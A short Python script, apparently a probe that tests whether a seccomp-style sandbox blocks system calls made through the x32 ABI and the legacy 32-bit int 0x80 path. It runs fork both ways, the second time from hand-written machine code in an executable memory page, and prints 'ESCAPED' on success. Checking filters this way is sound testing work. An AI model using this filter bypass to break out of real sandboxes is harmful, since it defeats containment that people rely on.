"""Makes system calls by the 32-bit and x32 doors, which filters forget."""

import ctypes
import mmap
import os

libc = ctypes.CDLL(None)
pid = libc.syscall(0x40000000 | 57)
if pid == 0:
    os._exit(0)
if pid > 0:
    print("ESCAPED: forked by the x32 door")
code = bytes.fromhex("53b802000000cd805bc3")  # mov eax, 2 (fork); int 0x80
page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
page.write(code)
address = ctypes.addressof(ctypes.c_char.from_buffer(page))
pid = ctypes.CFUNCTYPE(ctypes.c_int)(address)()
if pid == 0:
    os._exit(0)
if pid > 0:
    print("ESCAPED: forked by the 32-bit door")
